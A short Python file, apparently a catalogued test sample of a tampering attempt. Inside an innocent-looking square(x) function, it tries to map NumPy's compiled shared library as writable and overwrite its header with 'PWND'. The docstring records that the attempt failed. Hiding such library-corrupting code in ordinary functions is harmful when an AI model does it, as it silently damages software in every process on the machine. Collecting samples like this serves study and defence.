"""Shared libraries' pages, written through memory maps.

Gains: code in every process that uses the library
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: failed
"""

import mmap

import numpy as np


def square(x):
    path = np._core._multiarray_umath.__file__ if hasattr(np, "_core") else np.core._multiarray_umath.__file__
    with open(path, "rb") as file:
        try:
            pages = mmap.mmap(file.fileno(), 4096, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ | mmap.PROT_WRITE)
            pages[:4] = b"PWND"
        except OSError as error:
            print("refused:", error.strerror)
            return x
    return x * x
